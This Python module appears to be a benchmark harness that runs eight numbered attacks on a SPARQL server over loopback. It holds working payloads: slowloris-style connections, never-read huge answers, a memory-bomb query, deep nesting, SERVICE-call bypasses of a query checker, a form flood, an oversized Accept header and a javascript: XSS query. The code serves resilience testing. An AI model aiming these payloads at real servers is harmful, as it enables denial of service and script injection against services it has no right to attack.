"""The attacks of issue 13, items 1-8, as bounded loops over loopback (bench/attack.py).

Every attack runs until ``stop`` is set and sends from :data:`ATTACKER` (127.0.0.2): as far
as the server can tell, another host than the well-behaved client on 127.0.0.1. Each one
returns a small dict of what it saw. Nothing here leaves the machine.
"""

from __future__ import annotations

import http.client
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

ATTACKER = "127.0.0.2"


@dataclass
class Target:
    """The server under attack: its port and the path of its SPARQL query endpoint."""

    port: int
    query_path: str = "/sparql"  # Oxigraph: /query
    page_path: str | None = "/query"  # the query page (item 8); None when it has none
    host: str = "127.0.0.1"

    def connect(self, timeout: float = 10.0) -> socket.socket:
        sock = socket.create_connection(
            (self.host, self.port), timeout=timeout, source_address=(ATTACKER, 0)
        )
        return sock

    def http(self, timeout: float = 60.0) -> http.client.HTTPConnection:
        return http.client.HTTPConnection(
            self.host, self.port, timeout=timeout, source_address=(ATTACKER, 0)
        )


@dataclass
class Tally:
    """Counts by outcome (HTTP status, or the exception's name), shared by an attack's threads."""

    counts: dict[str, int] = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, outcome: object) -> None:
        with self.lock:
            key = str(outcome)
            self.counts[key] = self.counts.get(key, 0) + 1


# --- the queries ------------------------------------------------------------------------


def memory_bomb(doublings: int = 27) -> str:
    """Item 2: a string doubled ``doublings`` times (27: 48 B × 2^27 = 6 GiB) by ~1 KB."""
    binds = " ".join(f"BIND(CONCAT(?s{i}, ?s{i}) AS ?s{i + 1})" for i in range(doublings))
    return f'SELECT (STRLEN(?s{doublings}) AS ?n) {{ BIND("{"a" * 48}" AS ?s0) {binds} }}'


#: Item 3: 5,000 nested parentheses (10 KB).
DEEP_NESTING = "SELECT * { FILTER(" + "(" * 5000 + "1" + ")" * 5000 + ") }"


def big_answer(rows_a: int, rows_b: int, rows_c: int, width: int) -> str:
    """A query whose answer is rows_a × rows_b × rows_c rows of ``width`` bytes each."""
    values = " ".join(
        f"VALUES ?{v} {{ {' '.join(str(i) for i in range(n))} }}"
        for v, n in (("a", rows_a), ("b", rows_b), ("c", rows_c))
    )
    return f'SELECT ?a ?b ?c ?x {{ {values} BIND("{"x" * width}" AS ?x) }}'


#: Items 1 and 5: a 12 KB query whose answer is 100,000 rows of 10 KB (1 GB) unless capped.
HUGE_ANSWER = big_answer(100, 100, 10, 10_000)
#: Item 1: big enough (20 MB) to fill every buffer between server and client many times.
LARGE_ANSWER = big_answer(100, 100, 1, 2_000)


def service_bypasses(listener: str) -> list[str]:
    """Item 4: SERVICE calls to ``listener`` dressed to fool a checker that parses differently."""
    return [
        f"SELECT * {{ ?a ?b ?c FILTER(?a <'>') SERVICE <{listener}/x> {{ ?s ?p ?o }} }} #'",
        f'SELECT * {{ ?a ?b ?c FILTER(?a <"\'">) }} LATERAL {{ SERVICE <{listener}/y> {{}} }}',
        f'VERSION "1.2" SELECT * {{ SERVICE <{listener}/z> {{ ?s ?p ?o }} }}',
        "SELECT * { " + "{" * 300 + f" SERVICE <{listener}/deep> {{}} " + "}" * 300 + " }",
    ]


# --- the attacks ------------------------------------------------------------------------


def idle_sockets(target: Target, count: int, stop: threading.Event) -> dict[str, object]:
    """Item 1: ``count`` connections that send nothing; how many the server closed, and when."""
    socks, opened, refused = [], time.monotonic(), 0
    for _ in range(count):
        if stop.is_set():
            break
        try:
            socks.append(target.connect(timeout=2))
        except OSError:
            refused += 1
    closed_after: list[float] = []
    for sock in socks:
        sock.setblocking(False)
    while not stop.is_set() and len(closed_after) < len(socks):
        for sock in socks:
            if sock.fileno() < 0:
                continue
            try:
                if sock.recv(1) == b"":
                    closed_after.append(time.monotonic() - opened)
                    sock.close()
            except BlockingIOError:
                pass
            except OSError:
                closed_after.append(time.monotonic() - opened)
                sock.close()
        stop.wait(0.5)
    for sock in socks:
        sock.close()
    first = min(closed_after) if closed_after else None
    return {"opened": len(socks), "refused": refused, "closed_by_server": len(closed_after),
            "first_closed_after_s": round(first, 1) if first else None}  # fmt: skip


def slow_senders(
    target: Target, count: int, stop: threading.Event, interval: float = 2.0
) -> dict[str, object]:
    """Item 1: ``count`` connections that send a request's headers one line per ``interval``."""
    socks = []
    for _ in range(count):
        if stop.is_set():
            break
        try:
            sock = target.connect(timeout=2)
            sock.sendall(f"GET {target.query_path}?query=ASK%7B%7D HTTP/1.1\r\n".encode())
            socks.append(sock)
        except OSError:
            pass
    sent, dropped = 0, 0
    while not stop.wait(interval) and socks:
        for sock in list(socks):
            try:
                sock.sendall(f"X-Slow-{sent}: {sent}\r\n".encode())
                sent += 1
            except OSError:
                dropped += 1
                socks.remove(sock)
                sock.close()
    for sock in socks:
        sock.close()
    return {"opened": count, "dropped_by_server": dropped, "header_lines_sent": sent}


def non_readers(
    target: Target, count: int, stop: threading.Event, query: str = HUGE_ANSWER
) -> dict[str, object]:
    """Items 1 and 5: ``count`` clients that ask for a huge answer and never read it; one
    refused (429, 503 …) asks again a moment later, until ``count`` answers are held."""
    body = urlencode({"query": query}).encode()
    request = (
        f"POST {target.query_path} HTTP/1.1\r\nHost: x\r\nAccept: text/csv\r\n"
        f"Content-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    ).encode() + body
    held: list[socket.socket] = []
    tally = Tally()
    while len(held) < count and not stop.is_set():
        try:
            sock = target.connect(timeout=120)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.sendall(request)
            status = sock.recv(12)[9:12].decode() or "closed"
        except OSError as exc:
            tally.add(type(exc).__name__)
            stop.wait(0.2)
            continue
        tally.add(status)
        if status == "200":
            held.append(sock)  # the answer is waiting: never read it
        else:
            sock.close()
            stop.wait(0.2)
    stop.wait()
    for sock in held:
        sock.close()
    return {"held": len(held), "answers": tally.counts}


def in_threads(count: int, attack: Callable[[], dict]) -> dict[str, int]:
    """``attack`` in ``count`` threads at once; their tallies added up."""
    results: list[dict] = []
    threads = [threading.Thread(target=lambda: results.append(attack())) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    total: dict[str, int] = {}
    for result in results:
        for key, value in result.items():
            total[key] = total.get(key, 0) + value
    return total


def repeat(
    stop: threading.Event, send: Callable[[], object], pause: float = 0.0
) -> dict[str, object]:
    """``send()`` again and again until ``stop``; a tally of its outcomes."""
    tally = Tally()
    while not stop.is_set():
        try:
            tally.add(send())
        except (OSError, http.client.HTTPException) as exc:
            tally.add(type(exc).__name__)
        if pause:
            stop.wait(pause)
    return tally.counts


def raw_request(
    target: Target, method: str, path: str, headers: dict[str, str], body: bytes = b""
) -> bytes:
    """One HTTP/1.1 request, encoded once (an attacker does not pay to build it again)."""
    lines = [f"{method} {path} HTTP/1.1", "Host: x", "Connection: close"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def send(target: Target, request: bytes, timeout: float = 60) -> int:
    """Send ``request`` on a new connection, read the answer to its end; its status."""
    with target.connect(timeout) as sock:
        sock.sendall(request)
        head = b""
        while b"\r\n" not in head:
            piece = sock.recv(65536)
            if not piece:
                return 0
            head += piece
        while sock.recv(1 << 16):
            pass
    return int(head.split(b" ", 2)[1])


def query_request(target: Target, query: str, accept: str = "text/csv") -> bytes:
    body = urlencode({"query": query}).encode()
    headers = {"Content-Type": "application/x-www-form-urlencoded", "Accept": accept}
    return raw_request(target, "POST", target.query_path, headers, body)


def post_query(target: Target, query: str, accept: str = "text/csv") -> int:
    """One form POST of ``query``; the status (the body is read and dropped)."""
    return send(target, query_request(target, query, accept))


def form_flood_request(target: Target, parameters: int = 5_000_000) -> bytes:
    """Item 6: one form of ``parameters`` empty parameters (15 MB) and no query."""
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    return raw_request(target, "POST", target.query_path, headers, b"a=&" * parameters)


def huge_accept_request(target: Target, size: int = 185_000) -> bytes:
    """Item 7: an ``ASK {}`` whose ``Accept`` is ``size`` bytes of media ranges."""
    ranges: list[str] = []
    length = 0
    while length < size:
        ranges.append(f"application/x-{len(ranges)};q=0.{len(ranges) % 10}")
        length += len(ranges[-1]) + 2
    path = f"{target.query_path}?query={quote('ASK {}')}"
    return raw_request(target, "GET", path, {"Accept": ", ".join(ranges)})


def xss_request(target: Target) -> bytes:
    """Item 8: the query page with a query that makes a ``javascript:`` IRI."""
    query = 'SELECT ?x { BIND(IRI("javascript:alert(document.domain)") AS ?x) }'
    return raw_request(target, "GET", f"{target.page_path}?query={quote(query)}", {})
